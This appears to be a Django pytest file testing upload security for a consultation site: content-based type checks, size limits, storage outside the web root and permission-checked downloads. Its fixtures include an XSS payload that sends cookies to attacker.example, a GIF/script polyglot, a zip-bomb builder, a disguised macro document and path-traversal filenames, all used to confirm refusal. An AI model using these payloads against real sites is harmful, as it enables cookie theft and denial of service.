"""Uploads and stored files: type checked by content, sizes limited, nothing under the web root, downloads checked.

The site takes two uploads: the position paper (`consult:paper-upload`, .md/.txt/.docx) and the
CSV of invitations (`consult:invitation-import`). tests/test_paper_upload_views.py already shows
that an empty file, a binary .md, a .docx that is not a zip and a .pdf are refused; here are the
files made to pass for something they are not, the size limits, where files live and who may
download them (tests/test_report_views.py covers downloads by region and publication).
"""

import io
import time
import zipfile
from pathlib import Path

import pytest
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from django.views.static import serve
from docx import Document

from consult.models import Invitation, PositionPaper, Report
from consult.services.reports.build import report_build

from ..factories import make_consultation, make_user
from ..test_paper_upload_views import upload

PAPER = Path(settings.BASE_DIR) / "consult" / "fixtures" / "iom-hld-2013-position-paper.fr.md"
HTML_PAGE = b"""<!doctype html><html><body><script>alert(document.cookie)</script>
<img src=x onerror="fetch('//attacker.example/?'+document.cookie)"></body></html>"""
# A GIF header that is also a script and, below, a Markdown paper: a classic polyglot.
GIF_POLYGLOT = b"GIF89a/*\x00\x00\x80\x00\x00\xff\xff\xff*/=alert(1);//\n" + PAPER.read_bytes()


def word_paper(text="Recommendations") -> bytes:
    document = Document()
    document.add_heading(text, level=1)
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def rezipped(content: bytes, replace: dict[str, bytes] = (), add: dict[str, bytes] = ()) -> bytes:
    """Return the zip with some entries replaced or added."""
    source, buffer = zipfile.ZipFile(io.BytesIO(content)), io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            target.writestr(info.filename, dict(replace).get(info.filename, source.read(info)))
        for name, data in dict(add).items():
            target.writestr(name, data)
    return buffer.getvalue()


def zip_of(entries: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def zip_bomb(unpacked_mb: int) -> bytes:
    """Return a .docx whose document part unpacks to `unpacked_mb` megabytes (of blanks) from a few hundred KB."""
    source, buffer = zipfile.ZipFile(io.BytesIO(word_paper())), io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            if info.filename != "word/document.xml":
                target.writestr(info.filename, source.read(info))
                continue
            document = source.read(info)
            head, tail = document.split(b"<w:body>", 1)
            with target.open(info.filename, "w", force_zip64=True) as part:
                part.write(head + b"<w:body>")
                for _ in range(unpacked_mb):
                    part.write(b" " * (1024 * 1024))
                part.write(tail)
    return buffer.getvalue()


def macro_document() -> bytes:
    """Return a macro-enabled Word document (.docm) saved under a .docx name."""
    content = word_paper()
    types = zipfile.ZipFile(io.BytesIO(content)).read("[Content_Types].xml").replace(
        b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        b"application/vnd.ms-word.document.macroEnabled.main+xml",
    )
    return rezipped(content, replace={"[Content_Types].xml": types}, add={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"})


DISGUISED = {
    "a zip that is not a Word document": ("paper.docx", zip_of({"paper.md": PAPER.read_bytes()})),
    "a zip with Word's content types but no document": (
        "paper.docx", zip_of({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<not-word/>"})
    ),
    "a macro-enabled document renamed .docx": ("paper.docx", macro_document()),
    "a PDF renamed .docx": ("paper.docx", b"%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\n%%EOF"),
    "an HTML page with scripts renamed .md": ("paper.md", HTML_PAGE),
    "an executable renamed .md": ("paper.md", b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" * 64),
    "a PNG renamed .txt": ("paper.txt", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256))),
    "a GIF/script/Markdown polyglot": ("paper.md", GIF_POLYGLOT),
    "a Word document renamed .md": ("paper.md", word_paper()),
    "UTF-16 text": ("paper.md", PAPER.read_text(encoding="utf-8").encode("utf-16")),
    "a double extension": ("paper.md.exe", PAPER.read_bytes()),
    "a name with a path": ("../../config/settings.py", PAPER.read_bytes()),
}


@pytest.mark.parametrize("case", list(DISGUISED))
def test_a_file_that_is_not_what_its_name_says_is_refused_and_nothing_saved(client, officer, case):
    consultation = make_consultation()
    client.force_login(officer)
    name, content = DISGUISED[case]

    response = upload(client, consultation, name, content)

    assert response.status_code == 200, case
    page = response.content.decode()
    assert 'class="alert alert-danger"' in page and "invalid-feedback" in page, case
    assert "<script>alert" not in page and "Traceback" not in page
    assert not PositionPaper.objects.exists()
    assert not consultation.areas.exists()


def test_a_word_document_that_unpacks_to_too_much_is_refused_without_being_read(client, officer):
    consultation = make_consultation()
    client.force_login(officer)
    bomb = zip_bomb(unpacked_mb=150)
    assert len(bomb) < settings.POSITION_PAPER_MAX_BYTES

    started = time.monotonic()
    response = upload(client, consultation, "paper.docx", bomb)

    assert time.monotonic() - started < 5, "the document was unpacked before it was refused"
    assert "unpacks to more than" in response.content.decode()
    assert not PositionPaper.objects.exists()


def test_a_paper_over_the_limit_is_refused_with_its_size_and_nothing_saved(client, officer):
    consultation = make_consultation()
    client.force_login(officer)
    content = PAPER.read_bytes() + b"\n" * (settings.POSITION_PAPER_MAX_BYTES + 1 - len(PAPER.read_bytes()))

    response = upload(client, consultation, "paper.md", content)

    assert "The file is 10.0\xa0MB; the limit is 10.0\xa0MB." in response.content.decode()
    assert not PositionPaper.objects.exists() and not consultation.areas.exists()


def test_a_path_in_the_uploaded_name_is_dropped(client, officer):
    consultation = make_consultation(language="fr")
    client.force_login(officer)

    upload(client, consultation, "../../../../etc/paper.md", PAPER.read_bytes())

    assert PositionPaper.objects.get().filename == "paper.md"


def test_a_paper_at_the_limit_is_read(client, officer):
    consultation = make_consultation(language="fr")
    client.force_login(officer)
    # Padded with blanks on its last line: as many line breaks would take the Markdown parser half a minute.
    content = PAPER.read_bytes() + b" " * (settings.POSITION_PAPER_MAX_BYTES - len(PAPER.read_bytes()))

    response = upload(client, consultation, "paper.md", content)

    assert response.status_code == 302
    assert PositionPaper.objects.get().content.tobytes() == content


def invite(client, name, content):
    url = reverse("consult:invitation-import", args=[make_consultation().slug])
    return client.post(url, {"file": SimpleUploadedFile(name, content)})


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        ("people.csv", b"country,name,email,role\n" + b"FRA,A,a@example.org,drafter\n" * 40_000, "larger than"),
        ("people.csv", b"\x89PNG\r\n\x1a\n\x00\xff\xfe" * 100, "not UTF-8"),
        ("people.csv", zip_of({"people.csv": b"country,name,email,role\nFRA,A,a@example.org,drafter\n"}), "UTF-8"),
        ("people.xlsx", b"PK\x03\x04", "Upload a .csv file."),
        ("people.csv", HTML_PAGE, "Line 1"),
    ],
)
def test_an_invitation_csv_that_is_too_large_or_not_text_is_refused_and_nobody_invited(
    client, officer, france, name, content, message
):
    client.force_login(officer)

    response = invite(client, name, content)

    assert response.status_code == 200
    assert message in response.content.decode()
    assert "<script>alert" not in response.content.decode()
    assert not Invitation.objects.exists()


def under(path: Path, parent: Path) -> bool:
    return Path(path).resolve().is_relative_to(Path(parent).resolve())


def url_patterns(resolver=None, prefix=""):
    """Yield (route, callback) of every URL pattern of the site."""
    for pattern in (resolver or get_resolver()).url_patterns:
        if isinstance(pattern, URLResolver):
            yield from url_patterns(pattern, prefix + str(pattern.pattern))
        elif isinstance(pattern, URLPattern):
            yield prefix + str(pattern.pattern), pattern.callback


def test_stored_files_are_outside_the_web_root_and_never_served_directly():
    media = Path(settings.MEDIA_ROOT)
    static_dirs = [Path(settings.STATIC_ROOT), *map(Path, settings.STATICFILES_DIRS)]

    assert all(not under(media, static) and not under(static, media) for static in static_dirs)
    routes = list(url_patterns())
    assert [route for route, callback in routes if callback is serve] == []
    assert [route for route, _ in routes if route.startswith(("media", "reports/%", "static"))] == []
    # Papers are kept in the database, not as files: there is no path to guess.
    assert PositionPaper._meta.get_field("content").get_internal_type() == "BinaryField"


@pytest.fixture
def built_reports(consultation, officer, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    reports = {}
    for format in ["html", "xlsx", "csv_answers"]:
        report = Report.objects.create(consultation=consultation, format=format, language="en", requested_by=officer)
        report_build(report=report)
        report.refresh_from_db()
        assert report.status == Report.Status.DONE, report.error
        reports[format] = report
    return reports


def test_report_files_are_served_only_through_the_permission_check(
    client, built_reports, officer, focal_point_france, civil_society_rep, coordinator_africa, outsider
):
    for report in built_reports.values():
        url = reverse("consult:report-download", args=[report.pk])
        assert client.get(url).status_code == 302, "anonymous: asked to log in"
        for person in [focal_point_france, civil_society_rep, coordinator_africa, outsider]:
            client.force_login(person)
            assert client.get(url).status_code == 404, (person, report.format)
        client.force_login(officer)
        downloaded = client.get(url)
        assert downloaded.status_code == 200
        assert downloaded["Content-Disposition"].startswith("attachment")
        assert client.get("/media/" + report.file.name).status_code == 404
        assert client.get("/" + report.file.name).status_code == 404
        client.logout()


def test_a_raw_export_marked_published_stays_private(client, built_reports, focal_point_france):
    export = built_reports["csv_answers"]
    Report.objects.filter(pk=export.pk).update(is_published=True)
    url = reverse("consult:report-download", args=[export.pk])

    assert client.get(url).status_code == 302
    client.force_login(focal_point_france)
    assert client.get(url).status_code == 404


def test_an_uploaded_paper_is_shown_to_the_secretariat_only_and_never_served_back(
    client, officer, focal_point_france, outsider
):
    consultation = make_consultation(language="fr")
    client.force_login(officer)
    preview = upload(client, consultation, "paper.md", PAPER.read_bytes())["Location"]
    admin_page = client.get(reverse("admin:consult_positionpaper_change", args=[PositionPaper.objects.get().pk]))

    assert admin_page.status_code == 200
    assert "Le présent document énonce" not in admin_page.content.decode()  # Its name and size, not its text.
    for person in [focal_point_france, outsider, make_user("staff-only", is_staff=True)]:
        client.force_login(person)
        assert client.get(preview).status_code in (302, 403, 404), person
